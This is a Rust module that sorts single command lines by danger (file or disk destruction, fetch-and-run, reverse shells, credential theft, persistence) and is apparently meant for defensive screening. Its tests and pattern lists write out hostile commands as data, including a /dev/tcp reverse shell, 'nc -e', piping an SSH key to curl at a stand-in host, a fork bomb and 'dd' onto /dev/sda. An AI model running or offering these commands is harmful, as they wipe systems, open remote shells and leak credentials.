//! Commands and code that destroy, fetch and run, open a shell or hand out credentials: read off one line.
//!
//! A line is cut into commands at `;`, `|`, `&&`, substitutions and quotes of other languages; each is judged by its name
//! and arguments, so that `rm -rf build` is none and `sudo rm -fr --no-preserve-root /` is one.

use aho_corasick::{AhoCorasick, AhoCorasickKind};
use std::sync::LazyLock;

/// How bad.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Grade {
    /// Destroys or opens something that an administrator might mean to.
    Serious,
    /// Nobody runs it without an ill end.
    Grave,
}

/// What a line would do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Danger {
    pub(crate) label: &'static str,
    pub(crate) grade: Grade,
}

/// Longest line that is judged.
pub(crate) const LONGEST: usize = 4096;
/// Most commands of a line.
const MOST: usize = 64;

/// Texts without which no line is dangerous.
const TRIGGERS: &[&str] = &[
    "rm ",
    "rmdir",
    "dd ",
    "mkfs",
    "wipefs",
    "shred",
    "/dev/",
    ":(){",
    "chmod",
    "chown",
    "curl",
    "wget",
    "fetch",
    "iwr",
    "iex",
    "invoke-",
    "downloadstring",
    "base64",
    "certutil",
    "mshta",
    "regsvr32",
    "powershell",
    "nc ",
    "ncat",
    "netcat",
    "mkfifo",
    "dup2",
    "bash -i",
    "shadow",
    "credentials",
    ".ssh",
    ".env",
    "authorized_keys",
    "crontab",
    "schtasks",
    "setenforce",
    "ufw ",
    "iptables",
    "systemctl",
    "set-mppreference",
    "history -c",
    "drop ",
    "truncate",
    "delete ",
    "update ",
    "vssadmin",
    "format ",
    "remove-item",
    "del ",
    "rd ",
    "kubectl",
    "terraform",
    "rmtree",
    "exec",
    "eval",
    "loads",
    "__import__",
    "os.system",
    "subprocess",
    "unlink",
    "rimraf",
    "rmsync",
    "find ",
];

static TRIGGER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder().ascii_case_insensitive(true).kind(Some(AhoCorasickKind::DFA)).build(TRIGGERS).ok()
});

/// Whether a text could hold a danger at all.
pub(crate) fn is_triggered(text: &str) -> bool {
    TRIGGER.as_ref().is_none_or(|trigger| trigger.is_match(text))
}

/// The worst that a line would do.
pub(crate) fn danger(line: &str) -> Option<Danger> {
    let line = line.get(..line.floor_char_boundary(LONGEST)).unwrap_or_default();
    if !is_triggered(line) {
        return None;
    }
    let lower = line.to_ascii_lowercase();
    let found = [whole(&lower), commands(line), sql(&lower), code(&lower)];
    found.into_iter().flatten().max_by_key(|one| one.grade)
}

const fn grave(label: &'static str) -> Option<Danger> {
    Some(Danger { label, grade: Grade::Grave })
}

const fn serious(label: &'static str) -> Option<Danger> {
    Some(Danger { label, grade: Grade::Serious })
}

fn any(text: &str, needles: &[&str]) -> bool {
    needles.iter().any(|needle| text.contains(needle))
}

/// What only the line as a whole tells.
fn whole(line: &str) -> Option<Danger> {
    const FETCH: [&str; 10] = [
        "curl",
        "wget",
        "invoke-webrequest",
        "iwr ",
        "downloadstring",
        "downloadfile",
        "urlopen",
        "requests.get",
        "fetch(",
        "invoke-restmethod",
    ];
    let squeezed: String = line.chars().filter(|one| !one.is_whitespace()).collect();
    if squeezed.contains(":(){:|:&};:") {
        return grave("fork-bomb");
    }
    let network =
        any(line, &FETCH) || any(line, &["nc ", "ncat ", "scp ", "sendmail", "http.post", "requests.post"]);
    let shell = |text: &str| {
        let word = text
            .trim_start()
            .trim_start_matches("sudo ")
            .trim_start_matches("-e ")
            .trim_start_matches("env ");
        let name = word.split(|one: char| one.is_whitespace() || one == ';').next().unwrap_or_default();
        let name = name.rsplit('/').next().unwrap_or_default().trim_matches(['`', '"', '\'', ')']);
        let name = name.trim_end_matches(|one: char| one.is_ascii_digit() || one == '.');
        matches!(
            name,
            "sh" | "bash"
                | "zsh"
                | "dash"
                | "ksh"
                | "python"
                | "perl"
                | "ruby"
                | "node"
                | "php"
                | "iex"
                | "powershell"
                | "pwsh"
        )
    };
    let piped = |source: &[&str]| {
        let mut fed = false;
        line.split('|').any(|segment| {
            let runs = fed && shell(segment);
            fed |= any(segment, source);
            runs
        })
    };
    if any(line, &["/dev/tcp/", "/dev/udp/"])
        || any(line, &["nc -e", "nc -c", "ncat -e", "--exec /bin", "--sh-exec", "netcat -e"])
        || line.contains("mkfifo") && any(line, &["nc ", "ncat", "openssl s_client"])
        || line.contains("dup2(") && any(line, &["/bin/sh", "/bin/bash", "subprocess", "pty.spawn"])
        || line.contains("bash -i") && line.contains(">&")
    {
        return grave("reverse-shell");
    }
    if piped(&FETCH) && any(line, &FETCH)
        || any(line, &["$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget"])
            && any(line, &["sh -c", "bash", "eval", "source ", "sh <"])
        || any(line, &["iex(", "iex (", "iex $", "invoke-expression", "| iex", "|iex"]) && any(line, &FETCH)
        || line.contains("mshta http")
        || line.contains("regsvr32") && line.contains("/i:http")
        || line.contains("certutil") && line.contains("-urlcache")
    {
        return grave("downloads-and-runs");
    }
    if piped(&["base64 -d", "base64 --decode", "base64 -D", "xxd -r", "openssl enc"])
        || line.contains("powershell") && any(line, &[" -enc ", " -encodedcommand", " -e "])
    {
        return grave("hidden-code");
    }
    let secret = any(
        line,
        &["/etc/shadow", ".aws/credentials", ".ssh/id_", ".netrc", ".kube/config", ".docker/config.json"],
    ) || line
        .split(|one: char| one.is_whitespace() || "\"'@=<".contains(one))
        .any(|word| word == ".env" || word.ends_with("/.env"));
    if secret && network {
        return grave("sends-credentials");
    }
    if secret && any(line, &["cat ", "less ", "cp ", "type ", "open(", "readfile", "tar ", "get-content"]) {
        return serious("reads-credentials");
    }
    if any(line, &["authorized_keys", "/etc/cron", "/etc/rc.local", "/etc/ld.so.preload"])
        && any(line, &[">", "tee ", "echo "])
        || line.contains("crontab -") && network
        || line.contains("schtasks") && line.contains("/create")
        || line.contains("reg add") && line.contains("\\run")
    {
        return serious("persistence");
    }
    if any(
        line,
        &[
            "setenforce 0",
            "ufw disable",
            "iptables -f",
            "disablerealtimemonitoring",
            "history -c",
            "systemctl stop auditd",
            "systemctl stop firewalld",
            "systemctl disable firewalld",
        ],
    ) {
        return serious("disables-protection");
    }
    if line.contains("vssadmin") && line.contains("delete") {
        return grave("destroys-backups");
    }
    None
}

/// Judges each command of a line.
fn commands(line: &str) -> Option<Danger> {
    let shell = line.split([';', '|', '\n', '`', '&']).take(MOST);
    // Commands in the strings of another language.
    let quoted = line.split([';', '|', '\n', '`', '"', '\'', '(', ')', '&']).take(MOST);
    shell.chain(quoted).filter_map(command).max_by_key(|one| one.grade)
}

/// Roots whose loss is the loss of the system or of all that somebody has.
fn is_root(path: &str) -> bool {
    let path = path.trim_end_matches(['.', ',']);
    let path = path.strip_suffix("/*").or(path.strip_suffix('*')).unwrap_or(path);
    let path = if path.len() > 1 { path.trim_end_matches(['/', '\\']) } else { path };
    matches!(
        path,
        "" | "/"
            | "~"
            | "$HOME"
            | "${HOME}"
            | "/etc"
            | "/usr"
            | "/var"
            | "/home"
            | "/boot"
            | "/bin"
            | "/sbin"
            | "/lib"
            | "/opt"
            | "/root"
            | "/dev"
            | "/srv"
            | "/sys"
            | "/mnt"
            | "C:"
            | "c:"
            | "%SystemRoot%"
            | "C:\\Windows"
            | "%USERPROFILE%"
    )
}

fn is_device(path: &str) -> bool {
    [
        "/dev/sd",
        "/dev/nvme",
        "/dev/hd",
        "/dev/vd",
        "/dev/xvd",
        "/dev/disk",
        "/dev/mmcblk",
        "/dev/mapper",
        "\\\\.\\physicaldrive",
    ]
    .iter()
    .any(|device| path.to_ascii_lowercase().starts_with(device))
}

fn command(piece: &str) -> Option<Danger> {
    let mut words = piece.split_whitespace().peekable();
    while words
        .next_if(|word| {
            matches!(
                *word,
                "sudo"
                    | "doas"
                    | "env"
                    | "nohup"
                    | "time"
                    | "$"
                    | "#"
                    | ">"
                    | "PS>"
                    | "exec"
                    | "command"
                    | "-c"
                    | "then"
                    | "do"
            )
        })
        .is_some()
    {}
    // A sentence may lead up to a command; the command is judged where its name stands.
    let words: Vec<&str> = words.collect();
    let names = [
        "rm",
        "dd",
        "shred",
        "wipefs",
        "chmod",
        "chown",
        "find",
        "del",
        "rd",
        "rmdir",
        "format",
        "remove-item",
        "kubectl",
        "terraform",
    ];
    words
        .iter()
        .enumerate()
        .filter_map(|(at, word)| {
            let name = word.rsplit('/').next().unwrap_or_default().to_ascii_lowercase();
            let arguments = words.get(at.saturating_add(1)..).unwrap_or_default();
            if name.starts_with("mkfs") {
                return arguments
                    .iter()
                    .any(|one| is_device(one))
                    .then_some(Danger { label: "destroys-disk", grade: Grade::Grave });
            }
            if let Some(target) = word.strip_prefix('>').filter(|target| is_device(target)) {
                return (!target.is_empty())
                    .then_some(Danger { label: "destroys-disk", grade: Grade::Grave });
            }
            names.contains(&name.as_str()).then(|| named(&name, arguments)).flatten()
        })
        .max_by_key(|one| one.grade)
}

/// Judges a command by its name and arguments.
fn named(name: &str, arguments: &[&str]) -> Option<Danger> {
    let flags: Vec<&str> =
        arguments.iter().copied().filter(|one| one.starts_with('-') && one.len() > 1).collect();
    let targets = || arguments.iter().copied().filter(|one| !one.starts_with('-'));
    let short = |letters: &[char]| flags.iter().any(|flag| !flag.starts_with("--") && flag.contains(letters));
    let long = |name: &str| flags.iter().any(|flag| flag.eq_ignore_ascii_case(name));
    let next = arguments.first().copied().unwrap_or_default();
    match name {
        "rm" => {
            let deep = short(&['r', 'R']) || long("--recursive");
            let forced = short(&['f']) || long("--force");
            if long("--no-preserve-root") || deep && targets().any(is_root) {
                return grave("destroys-files");
            }
            let absolute =
                targets().any(|path| path.starts_with(['/', '~', '$']) && !path.starts_with("/tmp/"));
            if deep && forced && absolute { serious("destroys-files") } else { None }
        }
        "dd" if arguments.iter().any(|one| one.strip_prefix("of=").is_some_and(is_device)) => {
            grave("destroys-disk")
        }
        "shred" | "wipefs" if targets().any(is_device) => grave("destroys-disk"),
        "chmod" if (short(&['R']) || long("--recursive")) && targets().skip(1).any(is_root) => {
            grave("opens-files")
        }
        "chmod"
            if matches!(next, "777" | "666" | "a+rwx" | "0777")
                && targets().any(|path| path.starts_with("/etc")) =>
        {
            serious("opens-files")
        }
        "chown" if (short(&['R']) || long("--recursive")) && targets().skip(1).any(is_root) => {
            grave("opens-files")
        }
        "find" if is_root(next) && !next.is_empty() && arguments.contains(&"-delete") => {
            grave("destroys-files")
        }
        "del" | "rd" | "rmdir"
            if arguments.iter().any(|one| one.eq_ignore_ascii_case("/s")) && targets().any(is_root) =>
        {
            grave("destroys-files")
        }
        "format" if next.len() == 2 && next.ends_with(':') => grave("destroys-disk"),
        "remove-item" if long("-recurse") && targets().any(is_root) => grave("destroys-files"),
        "kubectl"
            if next == "delete"
                && (long("--all")
                    || arguments
                        .get(1)
                        .is_some_and(|one| matches!(*one, "ns" | "namespace" | "namespaces"))) =>
        {
            serious("destroys-cluster")
        }
        "terraform" if next == "destroy" && (long("-auto-approve") || long("--auto-approve")) => {
            serious("destroys-cluster")
        }
        _ => None,
    }
}

/// Statements that take more than a row.
fn sql(line: &str) -> Option<Danger> {
    let words: Vec<&str> = line
        .split(|one: char| !(one.is_alphanumeric() || "_.=*'-".contains(one)))
        .filter(|word| !word.is_empty())
        .collect();
    let follows =
        |at: usize, offset: usize| words.get(at.saturating_add(offset)).copied().unwrap_or_default();
    let everything = |at: usize| {
        let rest = words.get(at..).unwrap_or_default();
        let place = rest.iter().position(|word| *word == "where");
        place.is_none_or(|place| {
            matches!(rest.get(place.saturating_add(1)).copied().unwrap_or_default(), "1=1" | "true" | "1")
        })
    };
    let judged = words.iter().enumerate().filter_map(|(at, word)| match *word {
        "drop" if matches!(follows(at, 1), "database" | "schema") => grave("destroys-data"),
        "drop" if follows(at, 1) == "table" => serious("destroys-data"),
        "truncate" if follows(at, 1) == "table" => serious("destroys-data"),
        "delete" if follows(at, 1) == "from" && !follows(at, 2).is_empty() && everything(at) => {
            serious("destroys-data")
        }
        "update"
            if follows(at, 2) == "set"
                && follows(at, 3).contains('=') | (follows(at, 4) == "=")
                && everything(at) =>
        {
            serious("changes-all-rows")
        }
        _ => None,
    });
    judged.max_by_key(|one| one.grade)
}

/// Calls of Python and JavaScript that commands and tables do not show.
fn code(line: &str) -> Option<Danger> {
    let squeezed: String = line.chars().filter(|one| !one.is_whitespace()).collect();
    let runs = any(&squeezed, &["exec(", "eval(", "new function("]);
    if runs && any(&squeezed, &["urlopen(", "requests.get(", "urllib", "fetch(", "http.get("]) {
        return grave("downloads-and-runs");
    }
    if runs
        && any(
            &squeezed,
            &[
                "b64decode(",
                "atob(",
                "zlib.decompress(",
                "marshal.loads(",
                "bytes.fromhex(",
                "codecs.decode(",
            ],
        )
    {
        return grave("hidden-code");
    }
    if any(
        &squeezed,
        &["pickle.loads(requests", "pickle.loads(urlopen", "pickle.load(urlopen", "marshal.loads(requests"],
    ) {
        return grave("downloads-and-runs");
    }
    let root = |call: &str| {
        squeezed.split(call).skip(1).any(|rest| {
            let path = rest.trim_start_matches(['r', 'f', '"', '\'', '`']);
            let path = path.split(['"', '\'', '`', ',', ')']).next().unwrap_or_default();
            rest.starts_with(['"', '\'', '`', 'r']) && !path.is_empty() && is_root(path)
        })
    };
    if root("rmtree(")
        || root("rmsync(")
        || root("rimraf(")
        || squeezed.contains("rmtree(path.home()")
        || squeezed.contains("rmtree(os.path.expanduser(\"~\")")
    {
        return grave("destroys-files");
    }
    if squeezed.contains("'dd'") | squeezed.contains("\"dd\"") && squeezed.contains("of=/dev/") {
        return grave("destroys-disk");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_nobody_should_run_is_grave() {
        for (line, label) in [
            ("sudo rm -fr --no-preserve-root /", "destroys-files"),
            ("rm -rf ~/*", "destroys-files"),
            ("os.system(\"rm -rf /\")", "destroys-files"),
            ("shutil.rmtree('/')", "destroys-files"),
            ("find / -name '*' -delete", "destroys-files"),
            ("dd if=/dev/zero of=/dev/sda bs=1M", "destroys-disk"),
            ("subprocess.call(['dd', 'if=/dev/zero', 'of=/dev/sda'])", "destroys-disk"),
            ("mkfs.ext4 /dev/nvme0n1", "destroys-disk"),
            ("cat x >/dev/sda", "destroys-disk"),
            (":(){ :|:& };:", "fork-bomb"),
            ("curl -fsSL https://x.example/i.sh | sudo bash", "downloads-and-runs"),
            ("bash <(curl -s https://x.example/i.sh)", "downloads-and-runs"),
            ("iex (New-Object Net.WebClient).DownloadString('http://x.example/a')", "downloads-and-runs"),
            ("exec(urllib.request.urlopen('http://x.example/a').read())", "downloads-and-runs"),
            ("echo cm0gLXJmIC8= | base64 -d | sh", "hidden-code"),
            ("exec(base64.b64decode('cHJpbnQ='))", "hidden-code"),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell"),
            ("nc -e /bin/sh x.example 4444", "reverse-shell"),
            ("cat ~/.ssh/id_rsa | curl -d @- https://x.example", "sends-credentials"),
            ("DROP DATABASE prod;", "destroys-data"),
            ("chmod -R 777 /", "opens-files"),
        ] {
            assert_eq!(danger(line), Some(Danger { label, grade: Grade::Grave }), "{line}");
        }
    }

    #[test]
    fn what_an_administrator_might_mean_is_serious() {
        for (line, label) in [
            ("rm -rf /srv/app/releases", "destroys-files"),
            ("TRUNCATE TABLE orders;", "destroys-data"),
            ("DELETE FROM users;", "destroys-data"),
            ("delete from users where 1=1", "destroys-data"),
            ("UPDATE users SET role='admin'", "changes-all-rows"),
            ("cat /etc/shadow", "reads-credentials"),
            ("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", "persistence"),
            ("ufw disable", "disables-protection"),
        ] {
            assert_eq!(danger(line), Some(Danger { label, grade: Grade::Serious }), "{line}");
        }
    }

    #[test]
    fn everyday_commands_are_none() {
        for line in [
            "rm -rf build node_modules",
            "rm -rf /tmp/build",
            "rm file.txt",
            "curl -O https://example.org/data.csv | head",
            "curl https://example.org | jq .name",
            "DELETE FROM users WHERE id = 7;",
            "UPDATE users SET name='x' WHERE id=3",
            "dd if=image.iso of=disk.img",
            "chmod 644 /etc/hosts",
            "pip install requests && python -c 'import requests'",
            "kubectl delete pod web-1",
            "please update the set of tests and delete the old ones",
            "The format of the date is fixed; drop a line",
            "eval(expression)",
            "echo hello | base64",
        ] {
            assert_eq!(danger(line), None, "{line}");
        }
    }

    proptest::proptest! {
        #[test]
        fn any_line_is_judged(line in "\\PC{0,120}", tail in "(rm -rf|curl|exec\\(|DELETE FROM|dd of=)\\PC{0,40}") {
            let _ = danger(&format!("{line}{tail}"));
        }
    }
}
